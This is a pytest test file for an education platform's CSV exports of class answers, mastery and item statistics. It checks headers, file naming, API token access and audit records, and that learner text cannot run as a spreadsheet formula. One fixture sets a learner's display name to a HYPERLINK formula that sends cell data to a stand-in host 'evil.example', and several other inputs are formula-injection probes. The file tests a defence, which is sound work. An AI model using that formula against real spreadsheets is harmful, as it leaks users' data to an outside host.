"""The class page's downloads (and the items page's): CSV that spreadsheets open as they should (a byte-order mark,
RFC 4180 quoting, ISO dates, 1 and 0), named after the class and the day, never cached, with a
learner's text kept from running as a formula; the API gives the same files to a token."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from argon2 import PasswordHasher
from fastapi.testclient import TestClient
from sqlalchemy import select

from learnloop.domain import Role
from learnloop.services.accounts import register_user
from learnloop.services.courses import add_to_class
from learnloop.services.learning import record_attempt
from learnloop.storage.tables import AuditEvent
from learnloop.web.csv_download import csv_cell
from tests.conftest import World

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(body: bytes) -> list[dict[str, str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only after a byte-order mark
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_cells_that_a_spreadsheet_would_run_are_kept_as_text() -> None:
    for formula in ("=1+1", "+1", "-3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(formula) == "'" + formula
    assert csv_cell("3/4") == "3/4"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(-0.5) == -0.5  # numbers the platform writes are left as they are
    assert (csv_cell(True), csv_cell(False), csv_cell(None)) == (1, 0, "")
    assert csv_cell(date(2026, 12, 6)) == "2026-12-06"
    assert csv_cell(datetime(2026, 12, 6, 9, 5, 7, 123, tzinfo=UTC)) == "2026-12-06T09:05:07Z"


def test_the_class_page_offers_both_downloads_and_they_hold_the_class(
    clients: dict[str, TestClient], sqlite_world: World, hasher: PasswordHasher
) -> None:
    w = sqlite_world
    odd = register_user(
        w.db, hasher, username="odd", password="a long enough password",
        display_name=FORMULA_NAME, role=Role.LEARNER,
    )  # fmt: skip
    add_to_class(w.db, class_id=w.class_id, user_id=odd.user_id)
    record_attempt(w.db, odd, activity_key="parts-practice", item_key="pw-4", response="-3")
    record_attempt(w.db, odd, activity_key="parts-practice", item_key="pw-6", response="=1+2")
    record_attempt(w.db, w.learner, activity_key="parts-read", item_key="pw-1", response="a")

    educator = clients["educator"]
    page = educator.get(f"/teach/classes/{w.class_id}").text
    for what in ("mastery", "items", "answers"):
        assert f'<a href="/teach/classes/{w.class_id}/{what}.csv" download>' in page

    today = datetime.now(UTC).date().isoformat()
    answers = educator.get(f"/teach/classes/{w.class_id}/answers.csv")
    assert answers.status_code == 200
    assert answers.headers["content-type"] == "text/csv; charset=utf-8"
    assert answers.headers["content-disposition"] == (
        f'attachment; filename="7b-answers-{today}.csv"'
    )
    assert answers.headers["cache-control"] == "no-store"
    rows = _rows(answers.content)
    assert [(r["username"], r["item"], r["correct"]) for r in rows] == [
        ("odd", "pw-4", "0"),
        ("odd", "pw-6", "0"),
        ("lea", "pw-1", "1"),
    ]
    assert rows[0]["display_name"] == "'" + FORMULA_NAME
    assert rows[0]["answer"] == "'-3"
    assert rows[1]["answer"] == "'=1+2"
    answered = datetime.fromisoformat(rows[2]["answered_at"])
    assert rows[2]["answered_at"].endswith("Z")
    assert abs((datetime.now(UTC) - answered).total_seconds()) < 3600

    mastery = educator.get(f"/teach/classes/{w.class_id}/mastery.csv")
    assert mastery.headers["content-disposition"] == (
        f'attachment; filename="7b-mastery-{today}.csv"'
    )
    by_name = {r["username"]: r for r in _rows(mastery.content)}
    assert set(by_name) == {"lea", "omar", "odd"}
    assert by_name["odd"]["display_name"] == "'" + FORMULA_NAME
    assert by_name["lea"]["parts-of-a-whole:state"] == "in-progress"
    assert 0.0 < float(by_name["lea"]["parts-of-a-whole"]) < 1.0
    assert by_name["omar"]["parts-of-a-whole"] == ""  # nothing answered yet
    assert by_name["omar"]["parts-of-a-whole:state"] == "ready"
    assert by_name["omar"]["equivalent:state"] == "locked"

    items_page = educator.get(f"/teach/classes/{w.class_id}/items").text
    assert f'<a href="/teach/classes/{w.class_id}/items.csv" download>' in items_page
    items = educator.get(f"/teach/classes/{w.class_id}/items.csv")
    assert items.headers["content-disposition"] == f'attachment; filename="7b-items-{today}.csv"'
    by_item = {r["item"]: r for r in _rows(items.content)}
    assert list(by_item) == list(w.course.items)
    assert (by_item["pw-4"]["learners"], by_item["pw-4"]["p_first"]) == ("1", "0.0")
    assert by_item["pw-4"]["wrong_1"] == "'-3"  # a learner's text: never a formula
    assert by_item["pw-1"]["p_first"] == "1.0"
    assert by_item["pw-2"]["p_first"] == ""  # nobody tried it


def test_the_api_gives_the_same_files_to_a_token(
    client: TestClient, sqlite_world: World, tokens: dict[str, str | None]
) -> None:
    w = sqlite_world
    record_attempt(w.db, w.learner, activity_key="parts-read", item_key="pw-1", response="b")
    teacher = {"Authorization": f"Bearer {tokens['educator']}"}
    api = client.get(f"/api/v1/classes/{w.class_id}/answers.csv", headers=teacher)
    assert api.status_code == 200
    (row,) = _rows(api.content)
    assert (row["username"], row["misconceptions"], row["source"]) == (
        "lea",
        "top-bottom-roles",
        "app",
    )
    learner = {"Authorization": f"Bearer {tokens['learner']}"}
    refused = client.get(f"/api/v1/classes/{w.class_id}/answers.csv", headers=learner)
    assert refused.status_code == 403
    assert refused.headers["content-type"] == "application/json"  # an error, not a file
    items = client.get(f"/api/v1/classes/{w.class_id}/items.csv", headers=teacher)
    pw1 = next(r for r in _rows(items.content) if r["item"] == "pw-1")
    assert (pw1["wrong_1"], pw1["wrong_1_misconceptions"]) == (
        "We have 8 parts",
        "top-bottom-roles",
    )
    with w.db.reading() as s:  # two files taken through the API, none refused: two records
        taken = s.scalars(
            select(AuditEvent.details).where(AuditEvent.action == "class.records_downloaded")
        ).all()
    assert taken == [{"file": "answers"}, {"file": "items"}]
    missing = client.get("/api/v1/classes/999999/mastery.csv", headers=teacher)
    assert missing.status_code == 404
    spec = client.get("/api/v1/openapi.json").json()
    assert (
        "text/csv"
        in spec["paths"]["/classes/{class_id}/mastery.csv"]["get"]["responses"]["200"]["content"]
    )
